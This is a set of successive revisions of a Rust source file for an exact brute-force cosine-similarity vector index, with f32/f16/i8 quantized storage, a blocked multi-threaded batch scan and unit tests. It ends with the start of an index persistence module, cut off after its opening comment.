    norms: Vec<f32>,
}

impl ExactIndex {
    /// Indexes `data` in f32, deriving the candidate norms.
    pub fn build(data: Matrix) -> Self {
        let norms = row_norms(&data);
        ExactIndex::build_with_norms(data, norms)
    }

    /// Indexes `data` in f32 with norms the caller already holds.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_with_norms(data: Matrix, norms: Vec<f32>) -> Self {
        Self::build_quantized(data, norms, Quantization::F32)
    }

    /// Indexes `data` in the chosen storage format with caller-held
    /// norms (always the original f32 norms).
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_quantized(data: Matrix, norms: Vec<f32>, quant: Quantization) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        ExactIndex {
            data: QuantizedMatrix::encode(data, quant),
            norms,
        }
    }

    /// Adopts an already-quantized candidate matrix (the persistence
    /// restore path — no re-encoding).
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn from_quantized(data: QuantizedMatrix, norms: Vec<f32>) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        ExactIndex { data, norms }
    }

    /// The indexed candidate storage.
    pub fn data(&self) -> &QuantizedMatrix {
        &self.data
    }

    /// The cached candidate norms, one per row.
    pub fn norms(&self) -> &[f32] {
        &self.norms
    }

    /// Disassembles the index for persistence.
    pub(crate) fn to_parts(&self) -> (&QuantizedMatrix, &[f32]) {
        (&self.data, &self.norms)
    }
}

impl VectorIndex for ExactIndex {
    fn len(&self) -> usize {
        self.data.rows()
    }

    fn dim(&self) -> usize {
        self.data.cols()
    }

    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor> {
        assert_eq!(query.len(), self.dim(), "query dimensionality mismatch");
        if k == 0 {
            return Vec::new();
        }
        let nq = norm(query);
        let n = self.data.rows();
        let k = k.min(n);
        let mut sims: Vec<Neighbor> = (0..n)
            .map(|r| Neighbor {
                id: r,
                similarity: self.data.cosine_row(r, self.norms[r], query, nq),
            })
            .collect();
        // `neighbour_cmp` — (similarity desc, id asc) — is a total
        // order, and it is exactly the order the historical stable
        // descending sort produced (stable ⇒ ties keep ascending row
        // order). Selecting the top k under it and sorting just those
        // k therefore stays bit-identical to the historical full-scan
        // detectors while the serving hot path drops from O(n log n)
        // to O(n + k log k) per query.
        let by_sim_then_id = crate::neighbour_cmp;
        if k > 0 && k < n {
            sims.select_nth_unstable_by(k - 1, by_sim_then_id);
            sims.truncate(k);
        }
        sims.sort_by(by_sim_then_id);
        sims.truncate(k);
        sims
    }

    fn insert(&mut self, row: &[f32]) -> usize {
        if self.data.rows() > 0 {
            assert_eq!(row.len(), self.dim(), "insert dimensionality mismatch");
        }
        let id = self.data.rows();
        self.norms.push(norm(row));
        self.data.push_row(row);
        id
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn quantization(&self) -> Quantization {
        self.data.quantization()
    }

    fn candidate_bytes(&self) -> usize {
        self.data.candidate_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::ops::cosine_similarity;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// The pre-index reference: compute every similarity with the
    /// per-call norm path and stable-sort descending.
    fn brute_force(data: &Matrix, q: &[f32], k: usize) -> Vec<(usize, f32)> {
        let mut sims: Vec<(usize, f32)> = (0..data.rows())
            .map(|r| (r, cosine_similarity(data.row(r), q)))
            .collect();
        sims.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(std::cmp::Ordering::Equal));
        sims.truncate(k.min(data.rows()));
        sims
    }

    #[test]
    fn query_is_bit_identical_to_per_call_norms() {
        let mut rng = StdRng::seed_from_u64(11);
        let data = randn(&mut rng, 64, 12, 1.0);
        let queries = randn(&mut rng, 10, 12, 1.0);
        let idx = ExactIndex::build(data.clone());
        for r in 0..queries.rows() {
            let q = queries.row(r);
            for k in [1, 3, 64, 100] {
                let got = idx.query(q, k);
                let want = brute_force(&data, q, k);
                assert_eq!(got.len(), want.len());
                for (g, (id, sim)) in got.iter().zip(&want) {
                    assert_eq!(g.id, *id);
                    assert_eq!(g.similarity, *sim, "similarities must be bit-identical");
                }
            }
        }
    }

    #[test]
    fn quantized_backends_track_f32_closely() {
        let mut rng = StdRng::seed_from_u64(12);
        let data = randn(&mut rng, 80, 16, 1.0);
        let queries = randn(&mut rng, 8, 16, 1.0);
        let exact = ExactIndex::build(data.clone());
        for (quant, tol) in [(Quantization::F16, 2e-3), (Quantization::I8, 2e-2)] {
            let norms = row_norms(&data);
            let qidx = ExactIndex::build_quantized(data.clone(), norms, quant);
            assert_eq!(qidx.quantization(), quant);
            assert!(qidx.candidate_bytes() < exact.candidate_bytes());
            for r in 0..queries.rows() {
                let want = exact.query(queries.row(r), 1)[0];
                let got = qidx.query(queries.row(r), 1)[0];
                assert!(
                    (got.similarity - want.similarity).abs() <= tol,
                    "{quant}: {} vs {}",
                    got.similarity,
                    want.similarity
                );
            }
        }
    }

    #[test]
    fn quantized_insert_matches_quantized_build() {
        let mut rng = StdRng::seed_from_u64(13);
        let data = randn(&mut rng, 30, 6, 1.0);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let norms = row_norms(&data);
            let all = ExactIndex::build_quantized(data.clone(), norms, quant);
            let head = data.row_block(0, 20);
            let mut incremental =
                ExactIndex::build_quantized(head.clone(), row_norms(&head), quant);
            for r in 20..30 {
                assert_eq!(incremental.insert(data.row(r)), r, "{quant}");
            }
            for r in (0..30).step_by(7) {
                assert_eq!(
                    incremental.query(data.row(r), 3),
                    all.query(data.row(r), 3),
                    "{quant}"
                );
            }
        }
    }

    #[test]
    fn ties_keep_row_order() {
        // Duplicate candidates tie exactly; the stable sort must keep
        // the earlier row first, as the historical scan did.
        let data = Matrix::from_rows(&[&[0.0, 1.0], &[1.0, 0.0], &[1.0, 0.0], &[0.5, 0.5]]);
        let idx = ExactIndex::build(data);
        let top = idx.query(&[1.0, 0.0], 3);
        assert_eq!(top[0].id, 1);
        assert_eq!(top[1].id, 2);
    }

    #[test]
    fn zero_vectors_score_zero() {
        let data = Matrix::from_rows(&[&[0.0, 0.0], &[1.0, 0.0]]);
        let idx = ExactIndex::build(data);
        let top = idx.query(&[1.0, 0.0], 2);
        assert_eq!(
            top[0],
            Neighbor {
                id: 1,
                similarity: 1.0
            }
        );
        assert_eq!(
            top[1],
            Neighbor {
                id: 0,
                similarity: 0.0
            }
        );
        let zeroed = idx.query(&[0.0, 0.0], 1);
        assert_eq!(zeroed[0].similarity, 0.0);
    }

    #[test]
    fn all_zero_rows_tie_deterministically_in_every_format() {
        // The zero-norm pin at index level: `cosine_row` returns 0.0
        // for degenerate rows in every storage format, and
        // `neighbour_cmp`'s (sim desc, id asc) order keeps the
        // resulting ties in ascending id order — identically across
        // repeated queries and across formats.
        let data = Matrix::from_rows(&[
            &[0.0, 0.0, 0.0],
            &[1.0, 0.0, 0.0],
            &[0.0, 0.0, 0.0],
            &[0.0, 0.0, 0.0],
        ]);
        let norms = row_norms(&data);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let idx = ExactIndex::build_quantized(data.clone(), norms.clone(), quant);
            let top = idx.query(&[1.0, 0.0, 0.0], 4);
            assert_eq!(top[0].id, 1, "{quant}");
            assert_eq!(
                top[1..].iter().map(|n| n.id).collect::<Vec<_>>(),
                vec![0, 2, 3],
                "{quant}: zero rows must tie in ascending id order"
            );
            assert!(top[1..].iter().all(|n| n.similarity == 0.0), "{quant}");
            // A degenerate (all-zero) query scores every candidate 0.0
            // and the ids still come back ascending — twice, to pin
            // determinism.
            let z1 = idx.query(&[0.0, 0.0, 0.0], 4);
            let z2 = idx.query(&[0.0, 0.0, 0.0], 4);
            assert_eq!(z1, z2, "{quant}");
            assert_eq!(
                z1.iter().map(|n| n.id).collect::<Vec<_>>(),
                vec![0, 1, 2, 3],
                "{quant}"
            );
            assert!(z1.iter().all(|n| n.similarity == 0.0), "{quant}");
        }
    }

    #[test]
    fn k_clamps_to_candidate_count() {
        let data = Matrix::from_rows(&[&[1.0, 0.0], &[0.0, 1.0]]);
        let idx = ExactIndex::build(data);
        assert_eq!(idx.query(&[1.0, 0.0], 10).len(), 2);
    }
}
