//! Brute-force cosine scan with build-time norm caching — the
//! paper-faithful [`VectorIndex`] backend.

use crate::{Neighbor, VectorIndex};
use linalg::kernels::I8Kernel;
use linalg::ops::{norm, row_norms};
use linalg::quant::{PreparedQuery, Quantization, QuantizedMatrix, SCAN_TILE_ROWS};
use linalg::Matrix;

/// Queries scored together against each candidate tile in the blocked
/// batch scan: enough to amortize the per-tile f16 decode many times
/// over while keeping the per-block score buffer
/// (`QUERY_BLOCK × SCAN_TILE_ROWS` floats) comfortably in L1.
const QUERY_BLOCK: usize = 16;

/// Exact top-k by full scan.
///
/// Candidate norms are computed once at build time; each query pays
/// one norm plus one dot product per candidate. Selection is a stable
/// descending sort, so ties keep candidate row order — exactly the
/// behaviour of the historical per-detector scans, which is what makes
/// exact-backed detector scores bit-identical to the pre-index code.
///
/// Candidates live in a [`QuantizedMatrix`]: the default f32 storage
/// reproduces the historical kernels bit for bit, while f16/i8 halve
/// or quarter the bytes each scan streams (`benches/quant_scale.rs`).
/// Norms stay the **original f32** row norms in every format — the
/// quantized kernels reuse the same cache.
///
/// Batch queries run the **blocked scan**: candidates are walked in
/// [`SCAN_TILE_ROWS`]-row tiles and each tile is scored for a whole
/// [`QUERY_BLOCK`] of prepared queries before moving on, so a f16
/// tile is decoded once per block (not once per query) and the i8
/// tile stays hot across the block's integer-kernel dots
/// (`linalg::kernels`). Scores and tie order are identical to the
/// per-row `query` path — asserted exactly, since f32/f16 values are
/// bit-identical and i8 accumulation is exact integers
/// (`tests/blocked_scan.rs`).
#[derive(Debug, Clone)]
pub struct ExactIndex {
    data: QuantizedMatrix,
    norms: Vec<f32>,
}

impl ExactIndex {
    /// Indexes `data` in f32, deriving the candidate norms.
    pub fn build(data: Matrix) -> Self {
        let norms = row_norms(&data);
        ExactIndex::build_with_norms(data, norms)
    }

    /// Indexes `data` in f32 with norms the caller already holds.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_with_norms(data: Matrix, norms: Vec<f32>) -> Self {
        Self::build_quantized(data, norms, Quantization::F32)
    }

    /// Indexes `data` in the chosen storage format with caller-held
    /// norms (always the original f32 norms).
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_quantized(data: Matrix, norms: Vec<f32>, quant: Quantization) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        ExactIndex {
            data: QuantizedMatrix::encode(data, quant),
            norms,
        }
    }

    /// Adopts an already-quantized candidate matrix (the persistence
    /// restore path — no re-encoding).
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn from_quantized(data: QuantizedMatrix, norms: Vec<f32>) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        ExactIndex { data, norms }
    }

    /// The indexed candidate storage.
    pub fn data(&self) -> &QuantizedMatrix {
        &self.data
    }

    /// The cached candidate norms, one per row.
    pub fn norms(&self) -> &[f32] {
        &self.norms
    }

    /// Disassembles the index for persistence.
    pub(crate) fn to_parts(&self) -> (&QuantizedMatrix, &[f32]) {
        (&self.data, &self.norms)
    }

    /// [`VectorIndex::query_batch`] through an explicitly chosen i8
    /// kernel — the blocked tile scan. Every kernel returns identical
    /// neighbours (exact integer arithmetic); the knob exists for the
    /// parity suites and the scalar/SIMD rows of
    /// `benches/quant_scale.rs`.
    pub fn query_batch_with_kernel(
        &self,
        kernel: I8Kernel,
        queries: &Matrix,
        k: usize,
    ) -> Vec<Vec<Neighbor>> {
        let n = queries.rows();
        let mut out: Vec<Vec<Neighbor>> = Vec::with_capacity(n);
        out.resize_with(n, Vec::new);
        if n == 0 {
            return out;
        }
        let threads = std::thread::available_parallelism()
            .map(|t| t.get())
            .unwrap_or(1);
        let chunk = n.div_ceil(threads).max(crate::MIN_ROWS_PER_WORKER);
        if n < 2 * crate::MIN_ROWS_PER_WORKER || n <= chunk {
            self.scan_query_chunk(kernel, queries, 0, &mut out, k);
            return out;
        }
        crossbeam::scope(|scope| {
            for (ci, slice) in out.chunks_mut(chunk).enumerate() {
                scope.spawn(move |_| {
                    self.scan_query_chunk(kernel, queries, ci * chunk, slice, k);
                });
            }
        })
        .expect("index batch-query worker panicked");
        out
    }

    /// Scores query rows `[start, start + out.len())` against every
    /// candidate with the blocked scan and writes each query's top-k
    /// into its `out` slot.
    ///
    /// Loop structure: queries are taken [`QUERY_BLOCK`] at a time and
    /// prepared once (width validated; i8 query codes quantized);
    /// candidates stream through in [`SCAN_TILE_ROWS`] tiles with the
    /// whole query block scored per tile, so each tile's bytes (and
    /// the f16 decode) are paid once per block instead of once per
    /// query. Scores and their ascending-row order are identical to
    /// [`VectorIndex::query`]'s per-row loop, so the shared top-k
    /// selection returns bit-identical neighbours.
    fn scan_query_chunk(
        &self,
        kernel: I8Kernel,
        queries: &Matrix,
        start: usize,
        out: &mut [Vec<Neighbor>],
        k: usize,
    ) {
        if k == 0 {
            return;
        }
        let n_rows = self.data.rows();
        let mut scratch = Vec::new();
        let mut tile_dots = vec![0.0f32; QUERY_BLOCK * SCAN_TILE_ROWS];
        for (b0, block) in out.chunks_mut(QUERY_BLOCK).enumerate() {
            let q_base = start + b0 * QUERY_BLOCK;
            let prepared: Vec<PreparedQuery> = (0..block.len())
                .map(|i| self.data.prepare_query(queries.row(q_base + i)))
                .collect();
            let q_norms: Vec<f32> = prepared.iter().map(|pq| norm(pq.query())).collect();
            let mut sims: Vec<Vec<Neighbor>> = (0..block.len())
                .map(|_| Vec::with_capacity(n_rows))
                .collect();
            for row_start in (0..n_rows).step_by(SCAN_TILE_ROWS) {
                let nrows = SCAN_TILE_ROWS.min(n_rows - row_start);
                self.data.dot_tile(
                    kernel,
                    row_start,
                    nrows,
                    &prepared,
                    &mut scratch,
                    &mut tile_dots,
                );
                for (qi, q_sims) in sims.iter_mut().enumerate() {
                    let qn = q_norms[qi];
                    let dots = &tile_dots[qi * nrows..(qi + 1) * nrows];
                    for (i, &d) in dots.iter().enumerate() {
                        let r = row_start + i;
                        let row_norm = self.norms[r];
                        // Same expression as `cosine_row`: zero norms
                        // score 0.0, otherwise dot / (row·query norm).
                        let similarity = if row_norm == 0.0 || qn == 0.0 {
                            0.0
                        } else {
                            d / (row_norm * qn)
                        };
                        q_sims.push(Neighbor { id: r, similarity });
                    }
                }
            }
            for (slot, q_sims) in block.iter_mut().zip(sims) {
                *slot = top_k(q_sims, k);
            }
        }
    }
}

/// Top-k selection under [`crate::neighbour_cmp`] — (similarity desc,
/// id asc), the exact order the historical stable descending sort
/// produced. Factored out of [`VectorIndex::query`] so the blocked
/// batch scan selects through the *same* code path and tie handling.
fn top_k(mut sims: Vec<Neighbor>, k: usize) -> Vec<Neighbor> {
    let n = sims.len();
    let k = k.min(n);
    if k == 0 {
        return Vec::new();
    }
    let by_sim_then_id = crate::neighbour_cmp;
    if k < n {
        sims.select_nth_unstable_by(k - 1, by_sim_then_id);
        sims.truncate(k);
    }
    sims.sort_by(by_sim_then_id);
    sims.truncate(k);
    sims
}

impl VectorIndex for ExactIndex {
    fn len(&self) -> usize {
        self.data.rows()
    }

    fn dim(&self) -> usize {
        self.data.cols()
    }

    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor> {
        assert_eq!(query.len(), self.dim(), "query dimensionality mismatch");
        if k == 0 {
            return Vec::new();
        }
        // Prepare once per query: width validated, i8 query codes
        // quantized a single time for the whole scan.
        let pq = self.data.prepare_query(query);
        let nq = norm(query);
        let n = self.data.rows();
        let sims: Vec<Neighbor> = (0..n)
            .map(|r| Neighbor {
                id: r,
                similarity: self.data.cosine_row_prepared(r, self.norms[r], &pq, nq),
            })
            .collect();
        // `neighbour_cmp` — (similarity desc, id asc) — is a total
        // order, and it is exactly the order the historical stable
        // descending sort produced (stable ⇒ ties keep ascending row
        // order). Selecting the top k under it (see `top_k`, shared
        // with the blocked batch scan) therefore stays bit-identical
        // to the historical full-scan detectors while the serving hot
        // path drops from O(n log n) to O(n + k log k) per query.
        top_k(sims, k)
    }

    fn query_batch(&self, queries: &Matrix, k: usize) -> Vec<Vec<Neighbor>> {
        self.query_batch_with_kernel(I8Kernel::default(), queries, k)
    }

    fn insert(&mut self, row: &[f32]) -> usize {
        if self.data.rows() > 0 {
            assert_eq!(row.len(), self.dim(), "insert dimensionality mismatch");
        }
        let id = self.data.rows();
        self.norms.push(norm(row));
        self.data.push_row(row);
        id
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn quantization(&self) -> Quantization {
        self.data.quantization()
    }

    fn candidate_bytes(&self) -> usize {
        self.data.candidate_bytes()
    }

    fn resident_bytes(&self) -> usize {
        self.data.candidate_bytes() + self.norms.len() * std::mem::size_of::<f32>()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::ops::cosine_similarity;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// The pre-index reference: compute every similarity with the
    /// per-call norm path and stable-sort descending.
    fn brute_force(data: &Matrix, q: &[f32], k: usize) -> Vec<(usize, f32)> {
        let mut sims: Vec<(usize, f32)> = (0..data.rows())
            .map(|r| (r, cosine_similarity(data.row(r), q)))
            .collect();
        sims.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(std::cmp::Ordering::Equal));
        sims.truncate(k.min(data.rows()));
        sims
    }

    #[test]
    fn query_is_bit_identical_to_per_call_norms() {
        let mut rng = StdRng::seed_from_u64(11);
        let data = randn(&mut rng, 64, 12, 1.0);
        let queries = randn(&mut rng, 10, 12, 1.0);
        let idx = ExactIndex::build(data.clone());
        for r in 0..queries.rows() {
            let q = queries.row(r);
            for k in [1, 3, 64, 100] {
                let got = idx.query(q, k);
                let want = brute_force(&data, q, k);
                assert_eq!(got.len(), want.len());
                for (g, (id, sim)) in got.iter().zip(&want) {
                    assert_eq!(g.id, *id);
                    assert_eq!(g.similarity, *sim, "similarities must be bit-identical");
                }
            }
        }
    }

    #[test]
    fn quantized_backends_track_f32_closely() {
        let mut rng = StdRng::seed_from_u64(12);
        let data = randn(&mut rng, 80, 16, 1.0);
        let queries = randn(&mut rng, 8, 16, 1.0);
        let exact = ExactIndex::build(data.clone());
        for (quant, tol) in [(Quantization::F16, 2e-3), (Quantization::I8, 2e-2)] {
            let norms = row_norms(&data);
            let qidx = ExactIndex::build_quantized(data.clone(), norms, quant);
            assert_eq!(qidx.quantization(), quant);
            assert!(qidx.candidate_bytes() < exact.candidate_bytes());
            for r in 0..queries.rows() {
                let want = exact.query(queries.row(r), 1)[0];
                let got = qidx.query(queries.row(r), 1)[0];
                assert!(
                    (got.similarity - want.similarity).abs() <= tol,
                    "{quant}: {} vs {}",
                    got.similarity,
                    want.similarity
                );
            }
        }
    }

    #[test]
    fn quantized_insert_matches_quantized_build() {
        let mut rng = StdRng::seed_from_u64(13);
        let data = randn(&mut rng, 30, 6, 1.0);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let norms = row_norms(&data);
            let all = ExactIndex::build_quantized(data.clone(), norms, quant);
            let head = data.row_block(0, 20);
            let mut incremental =
                ExactIndex::build_quantized(head.clone(), row_norms(&head), quant);
            for r in 20..30 {
                assert_eq!(incremental.insert(data.row(r)), r, "{quant}");
            }
            for r in (0..30).step_by(7) {
                assert_eq!(
                    incremental.query(data.row(r), 3),
                    all.query(data.row(r), 3),
                    "{quant}"
                );
            }
        }
    }

    #[test]
    fn ties_keep_row_order() {
        // Duplicate candidates tie exactly; the stable sort must keep
        // the earlier row first, as the historical scan did.
        let data = Matrix::from_rows(&[&[0.0, 1.0], &[1.0, 0.0], &[1.0, 0.0], &[0.5, 0.5]]);
        let idx = ExactIndex::build(data);
        let top = idx.query(&[1.0, 0.0], 3);
        assert_eq!(top[0].id, 1);
        assert_eq!(top[1].id, 2);
    }

    #[test]
    fn zero_vectors_score_zero() {
        let data = Matrix::from_rows(&[&[0.0, 0.0], &[1.0, 0.0]]);
        let idx = ExactIndex::build(data);
        let top = idx.query(&[1.0, 0.0], 2);
        assert_eq!(
            top[0],
            Neighbor {
                id: 1,
                similarity: 1.0
            }
        );
        assert_eq!(
            top[1],
            Neighbor {
                id: 0,
                similarity: 0.0
            }
        );
        let zeroed = idx.query(&[0.0, 0.0], 1);
        assert_eq!(zeroed[0].similarity, 0.0);
    }

    #[test]
    fn all_zero_rows_tie_deterministically_in_every_format() {
        // The zero-norm pin at index level: `cosine_row` returns 0.0
        // for degenerate rows in every storage format, and
        // `neighbour_cmp`'s (sim desc, id asc) order keeps the
        // resulting ties in ascending id order — identically across
        // repeated queries and across formats.
        let data = Matrix::from_rows(&[
            &[0.0, 0.0, 0.0],
            &[1.0, 0.0, 0.0],
            &[0.0, 0.0, 0.0],
            &[0.0, 0.0, 0.0],
        ]);
        let norms = row_norms(&data);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let idx = ExactIndex::build_quantized(data.clone(), norms.clone(), quant);
            let top = idx.query(&[1.0, 0.0, 0.0], 4);
            assert_eq!(top[0].id, 1, "{quant}");
            assert_eq!(
                top[1..].iter().map(|n| n.id).collect::<Vec<_>>(),
                vec![0, 2, 3],
                "{quant}: zero rows must tie in ascending id order"
            );
            assert!(top[1..].iter().all(|n| n.similarity == 0.0), "{quant}");
            // A degenerate (all-zero) query scores every candidate 0.0
            // and the ids still come back ascending — twice, to pin
            // determinism.
            let z1 = idx.query(&[0.0, 0.0, 0.0], 4);
            let z2 = idx.query(&[0.0, 0.0, 0.0], 4);
            assert_eq!(z1, z2, "{quant}");
            assert_eq!(
                z1.iter().map(|n| n.id).collect::<Vec<_>>(),
                vec![0, 1, 2, 3],
                "{quant}"
            );
            assert!(z1.iter().all(|n| n.similarity == 0.0), "{quant}");
        }
    }

    #[test]
    fn blocked_batch_is_bit_identical_to_per_row_queries() {
        // Candidate count deliberately not a multiple of
        // SCAN_TILE_ROWS, query count not a multiple of QUERY_BLOCK —
        // both ragged edges in play — across every storage format and
        // every i8 kernel.
        let mut rng = StdRng::seed_from_u64(21);
        let data = randn(&mut rng, 150, 12, 1.0);
        let queries = randn(&mut rng, 19, 12, 1.0);
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let norms = row_norms(&data);
            let idx = ExactIndex::build_quantized(data.clone(), norms, quant);
            for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
                let batched = idx.query_batch_with_kernel(kernel, &queries, 5);
                assert_eq!(batched.len(), 19);
                for (r, neighbours) in batched.iter().enumerate() {
                    assert_eq!(
                        neighbours,
                        &idx.query(queries.row(r), 5),
                        "{quant}/{} query {r}",
                        kernel.name()
                    );
                }
            }
        }
    }

    #[test]
    fn blocked_batch_preserves_ties_across_tile_boundaries() {
        // Every candidate is identical, so every similarity ties: the
        // top-k must come back in ascending id order even when the
        // tied rows span multiple scan tiles.
        let n = SCAN_TILE_ROWS * 2 + 7;
        let data = Matrix::from_fn(n, 4, |_, c| if c == 0 { 1.0 } else { 0.0 });
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let norms = row_norms(&data);
            let idx = ExactIndex::build_quantized(data.clone(), norms, quant);
            let queries = Matrix::from_fn(3, 4, |_, c| if c == 0 { 2.0 } else { 0.0 });
            let batched = idx.query_batch(&queries, SCAN_TILE_ROWS + 3);
            for per_query in &batched {
                assert_eq!(
                    per_query.iter().map(|n| n.id).collect::<Vec<_>>(),
                    (0..SCAN_TILE_ROWS + 3).collect::<Vec<_>>(),
                    "{quant}: tied rows must stay in ascending id order"
                );
            }
        }
    }

    #[test]
    fn k_clamps_to_candidate_count() {
        let data = Matrix::from_rows(&[&[1.0, 0.0], &[0.0, 1.0]]);
        let idx = ExactIndex::build(data);
        assert_eq!(idx.query(&[1.0, 0.0], 10).len(), 2);
    }
}
