//! Brute-force cosine scan with build-time norm caching — the
//! paper-faithful [`VectorIndex`] backend.

use crate::{Neighbor, VectorIndex};
use linalg::ops::{cosine_with_norms, norm, row_norms};
use linalg::Matrix;

/// Exact top-k by full scan.
///
/// Candidate norms are computed once at build time; each query pays
/// one norm plus one dot product per candidate. Selection is a stable
/// descending sort, so ties keep candidate row order — exactly the
/// behaviour of the historical per-detector scans, which is what makes
/// exact-backed detector scores bit-identical to the pre-index code.
#[derive(Debug, Clone)]
pub struct ExactIndex {
    data: Matrix,
    norms: Vec<f32>,
}

impl ExactIndex {
    /// Indexes `data`, deriving the candidate norms.
    pub fn build(data: Matrix) -> Self {
        let norms = row_norms(&data);
        ExactIndex { data, norms }
    }

    /// Indexes `data` with norms the caller already holds.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_with_norms(data: Matrix, norms: Vec<f32>) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        ExactIndex { data, norms }
    }

    /// The indexed candidate matrix.
    pub fn data(&self) -> &Matrix {
        &self.data
    }

    /// The cached candidate norms, one per row.
    pub fn norms(&self) -> &[f32] {
        &self.norms
    }

    /// Disassembles the index for persistence.
    pub(crate) fn to_parts(&self) -> (&Matrix, &[f32]) {
        (&self.data, &self.norms)
    }
}

impl VectorIndex for ExactIndex {
    fn len(&self) -> usize {
        self.data.rows()
    }

    fn dim(&self) -> usize {
        self.data.cols()
    }

    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor> {
        assert_eq!(query.len(), self.dim(), "query dimensionality mismatch");
        if k == 0 {
            return Vec::new();
        }
        let nq = norm(query);
        let n = self.data.rows();
        let k = k.min(n);
        let mut sims: Vec<Neighbor> = (0..n)
            .map(|r| Neighbor {
                id: r,
                similarity: cosine_with_norms(self.data.row(r), self.norms[r], query, nq),
            })
            .collect();
        // `neighbour_cmp` — (similarity desc, id asc) — is a total
        // order, and it is exactly the order the historical stable
        // descending sort produced (stable ⇒ ties keep ascending row
        // order). Selecting the top k under it and sorting just those
        // k therefore stays bit-identical to the historical full-scan
        // detectors while the serving hot path drops from O(n log n)
        // to O(n + k log k) per query.
        let by_sim_then_id = crate::neighbour_cmp;
        if k > 0 && k < n {
            sims.select_nth_unstable_by(k - 1, by_sim_then_id);
            sims.truncate(k);
        }
        sims.sort_by(by_sim_then_id);
        sims.truncate(k);
        sims
    }

    fn insert(&mut self, row: &[f32]) -> usize {
        if self.data.rows() > 0 {
            assert_eq!(row.len(), self.dim(), "insert dimensionality mismatch");
        }
        let id = self.data.rows();
        self.norms.push(norm(row));
        self.data.push_row(row);
        id
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::ops::cosine_similarity;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    /// The pre-index reference: compute every similarity with the
    /// per-call norm path and stable-sort descending.
    fn brute_force(data: &Matrix, q: &[f32], k: usize) -> Vec<(usize, f32)> {
        let mut sims: Vec<(usize, f32)> = (0..data.rows())
            .map(|r| (r, cosine_similarity(data.row(r), q)))
            .collect();
        sims.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(std::cmp::Ordering::Equal));
        sims.truncate(k.min(data.rows()));
        sims
    }

    #[test]
    fn query_is_bit_identical_to_per_call_norms() {
        let mut rng = StdRng::seed_from_u64(11);
        let data = randn(&mut rng, 64, 12, 1.0);
        let queries = randn(&mut rng, 10, 12, 1.0);
        let idx = ExactIndex::build(data.clone());
        for r in 0..queries.rows() {
            let q = queries.row(r);
            for k in [1, 3, 64, 100] {
                let got = idx.query(q, k);
                let want = brute_force(&data, q, k);
                assert_eq!(got.len(), want.len());
                for (g, (id, sim)) in got.iter().zip(&want) {
                    assert_eq!(g.id, *id);
                    assert_eq!(g.similarity, *sim, "similarities must be bit-identical");
                }
            }
        }
    }

    #[test]
    fn ties_keep_row_order() {
        // Duplicate candidates tie exactly; the stable sort must keep
        // the earlier row first, as the historical scan did.
        let data = Matrix::from_rows(&[&[0.0, 1.0], &[1.0, 0.0], &[1.0, 0.0], &[0.5, 0.5]]);
        let idx = ExactIndex::build(data);
        let top = idx.query(&[1.0, 0.0], 3);
        assert_eq!(top[0].id, 1);
        assert_eq!(top[1].id, 2);
    }

    #[test]
    fn zero_vectors_score_zero() {
        let data = Matrix::from_rows(&[&[0.0, 0.0], &[1.0, 0.0]]);
        let idx = ExactIndex::build(data);
        let top = idx.query(&[1.0, 0.0], 2);
        assert_eq!(
            top[0],
            Neighbor {
                id: 1,
                similarity: 1.0
            }
        );
        assert_eq!(
            top[1],
            Neighbor {
                id: 0,
                similarity: 0.0
            }
        );
        let zeroed = idx.query(&[0.0, 0.0], 1);
        assert_eq!(zeroed[0].similarity, 0.0);
    }

    #[test]
    fn k_clamps_to_candidate_count() {
        let data = Matrix::from_rows(&[&[1.0, 0.0], &[0.0, 1.0]]);
        let idx = ExactIndex::build(data);
        assert_eq!(idx.query(&[1.0, 0.0], 10).len(), 2);
    }
}
