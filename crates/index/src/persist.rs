//! Index persistence: serialize a built [`VectorIndex`] (candidate
//! matrix, cached norms, and — for HNSW — the whole navigable graph
//! plus its RNG replay count) so a serving process cold-starts by
//! *adopting* the graph instead of re-running the O(n·ef_construction)
//! construction pass. The skip is checkable:
//! [`crate::construction_passes`] does not move on restore.
//!
//! The format is a versioned little-endian binary frame written by
//! [`ByteWriter`] / read by [`ByteReader`]. The vendored `serde` is a
//! marker-only shim (the build container has no crates.io access), so
//! the codec is hand-rolled here; snapshot types still carry the serde
//! derive markers so a future PR swapping in real serde touches only
//! this module.

use crate::{
